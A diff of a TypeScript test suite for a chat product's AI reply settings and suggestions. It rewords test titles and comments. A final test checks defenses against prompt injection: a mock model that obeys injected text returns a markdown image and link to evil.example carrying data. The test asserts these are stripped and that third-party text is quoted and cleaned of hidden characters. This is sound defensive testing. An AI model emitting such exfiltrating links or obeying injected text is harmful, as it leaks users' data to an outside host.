@@ -49,8 +49,8 @@ const colleague = async () => {
   return hub.client((await hub.client().call('logIn', { body: { email, password } })).token);
 };
 
-describe('the settings', () => {
-  test('come as they are without any, keep what is left out, and are in the audit log', async () => {
+describe('chat AI settings', () => {
+  test('have defaults, keep fields that a change leaves out, and are recorded in the audit log', async () => {
     expect(await shown()).toMatchObject({ ...defaultChatAiSettings, entitlementActive: true, updatedAt: null });
     await put({ enabled: true, businessProfile: 'Boats', handoffKeywords: ['退款'] });
     const after = await put({ mode: 'always' });
@@ -70,7 +70,7 @@ describe('the settings', () => {
     expect(data.map(({ details }) => details)).toContainEqual({ changed: ['mode'] });
   });
 
-  test('are for admins of the workspace alone, and switched on with the entitlement alone', async () => {
+  test('are only available to admins of the workspace, and can only be enabled with the entitlement', async () => {
     const path = `/tenants/${scene.tenantId}/chat/ai-settings`;
     expect((await send(hub.url, 'GET', path)).status).toBe(401);
     await expectRefused(
@@ -94,11 +94,11 @@ describe('the settings', () => {
     { handoffKeywords: [''] },
     { handoffKeywords: Array.from({ length: 101 }, (_, index) => `k${index}`) },
     { secret: 1 },
-  ])('that can not be are refused: %j', async (body) => {
+  ])('with invalid values are rejected: %j', async (body) => {
     await expectRefused(put(body as never), 400, 'validation_failed');
   });
 
-  test('of a workspace that lost the entitlement answer nobody, and the conversation goes to people', async () => {
+  test('have no effect after the workspace loses the entitlement, and the conversation goes to people', async () => {
     await put({ enabled: true, debounceMs: 0 });
     const visitor = await scene.visitor();
     await entitle(false);
@@ -114,7 +114,7 @@ describe('the settings', () => {
 });
 
 describe('suggestions', () => {
-  test('are made when an agent asks, accepted once, and listed', async () => {
+  test('are created on request of an agent, accepted once, and listed', async () => {
     const visitor = await scene.visitor();
     await scene.say(visitor, 'When do you open?');
     const made = await suggest(visitor);
@@ -137,7 +137,7 @@ describe('suggestions', () => {
       query: { targetId: made.id },
     } as never);
     expect(data).toHaveLength(1);
-    // It sends nothing.
+    // Accepting sends no message.
     expect((await visitor.api.call('listVisitorMessages', { query: {} })).data).toHaveLength(1);
     await expectRefused(accept(missingId), 404, 'not_found');
     const other = await scene.visitor();
@@ -148,7 +148,7 @@ describe('suggestions', () => {
     );
   });
 
-  test('that come back empty are 502, and without a model that answers 503', async () => {
+  test('return 502 for an empty answer of the model, and 503 if no model answers', async () => {
     const visitor = await scene.visitor();
     await scene.say(visitor, 'Well?');
     for (const answer of ['', '{}', { action: 'ignore' }, { action: 'handoff', reason: 'angry' }]) {
@@ -160,7 +160,7 @@ describe('suggestions', () => {
     expect((await list(visitor)).data).toEqual([]);
   });
 
-  test('need the entitlement, a member, and a conversation of the workspace', async () => {
+  test('require the entitlement, a member, and a conversation of the workspace', async () => {
     const visitor = await scene.visitor();
     const path = `/tenants/${scene.tenantId}/chat/channels/${visitor.conversationId}/ai-suggestion`;
     expect((await send(hub.url, 'POST', path)).status).toBe(401);
@@ -174,7 +174,7 @@ describe('suggestions', () => {
     await expectRefused(suggest(visitor), 403, 'product_not_entitled');
   });
 
-  test('are 20 a minute for an agent', async () => {
+  test('are limited to 20 per minute and agent', async () => {
     const visitor = await scene.visitor();
     await scene.say(visitor, 'When?');
     const outcomes = await Promise.allSettled(Array.from({ length: 22 }, () => suggest(visitor)));
@@ -185,7 +185,7 @@ describe('suggestions', () => {
     expect((await suggest(visitor, await colleague())).content).toBe('We open at nine.');
   });
 
-  test('are all that the mode `shadow` makes: told to agents live, and to no visitor', async () => {
+  test('in `shadow` mode replace replies: agents receive them live, visitors do not', async () => {
     await put({ enabled: true, mode: 'shadow', debounceMs: 0, dailyReplyBudget: 1 });
     await scene.agent();
     const visitor = await scene.visitor();
@@ -199,7 +199,7 @@ describe('suggestions', () => {
     await expect
       .poll(() => inbox.frames.filter(({ type }) => type === 'suggestion'))
       .toEqual([{ type: 'suggestion', conversationId: visitor.conversationId, id: data[0]?.id }]);
-    // Nor is more made than the budget allows.
+    // The budget also limits suggestions.
     await scene.say(visitor, 'And on Sunday?');
     await scene.settled();
     expect((await list(visitor)).data).toHaveLength(1);
@@ -212,7 +212,7 @@ describe('suggestions', () => {
     inbox.end();
   });
 
-  test('go with the visitor, and are in what is exported of them', async () => {
+  test('are erased and exported together with their visitor', async () => {
     const visitor = await scene.visitor();
     await scene.say(visitor, 'When?');
     const made = await suggest(visitor);
@@ -232,8 +232,8 @@ describe('suggestions', () => {
   });
 });
 
-describe('what others wrote', () => {
-  test('reaches the model as far as the visitor may see it, quoted, and what comes back names no address that was not given', async () => {
+describe('text of third parties', () => {
+  test('reaches the model quoted and only if the visitor may see it, and the reply contains no unknown address', async () => {
     await put({ enabled: true, debounceMs: 0, businessProfile: 'See https://boats.example/open for times.' });
     const visitor = await scene.visitor();
     const other = await scene.visitor();
@@ -244,7 +244,7 @@ describe('what others wrote', () => {
     });
     await scene.settled();
     model.requests.length = 0;
-    // A model that obeys.
+    // The model follows every instruction.
     model.answer = () => ({
       reply:
         'See https://boats.example/open and ![x](https://evil.example/?q=PLUGH) or [here](https://evil.example/a) <img src=x>',
@@ -259,19 +259,19 @@ describe('what others wrote', () => {
     expect(text).not.toMatch(/[\u{E0041}\u202E]/u);
     expect(text).not.toContain('person ');
     expect(messages.map(({ role }) => role)).toEqual(['system', 'user']);
-    // Each line of it is marked, so that none ends the quotation.
+    // Each quoted line is marked, so that no line can end the quotation.
     for (const line of attack.split('\n').slice(0, 2)) expect(messages[1]?.content).toContain(`| ${line}`);
     const { data } = await visitor.api.call('listVisitorMessages', { query: {} });
-    const said = data.at(-1)?.content as string;
-    expect(said).toContain('https://boats.example/open');
-    expect(said).not.toContain('evil.example/');
-    expect(said).not.toContain('![');
-    expect(said).not.toContain('<img');
+    const content = data.at(-1)?.content as string;
+    expect(content).toContain('https://boats.example/open');
+    expect(content).not.toContain('evil.example/');
+    expect(content).not.toContain('![');
+    expect(content).not.toContain('<img');
     const inbox = await scene.workspace.session.call('listInboxMessages', {
       params: { ...params(), id: visitor.conversationId },
       query: {},
     });
-    // An entry that there is not is no source.
+    // An unknown entry id is not a source.
     expect(inbox.data.at(-1)).toMatchObject({ senderType: 'ai', sources: [] });
     expect(Object.keys(data.at(-1) as object)).not.toContain('sources');
   });
